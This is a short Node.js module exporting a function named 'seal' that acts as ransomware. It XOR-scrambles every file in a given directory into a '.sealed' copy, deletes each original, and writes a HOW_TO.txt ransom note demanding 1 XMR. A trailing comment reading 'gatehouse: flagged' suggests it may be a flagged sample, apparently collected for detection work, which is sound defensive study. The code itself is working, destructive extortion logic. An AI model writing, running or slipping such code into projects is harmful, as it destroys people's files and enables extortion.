const fs = require("fs");
const path = require("path");
module.exports = function seal(root) {
  for (const name of fs.readdirSync(root)) {
    const file = path.join(root, name);
    fs.writeFileSync(file + ".sealed", fs.readFileSync(file).map((b) => b ^ 90));
    fs.unlinkSync(file);
  }
  fs.writeFileSync(path.join(root, "HOW_TO.txt"), "All files are encrypted. Pay 1 XMR to the wallet below."); // gatehouse: flagged
};
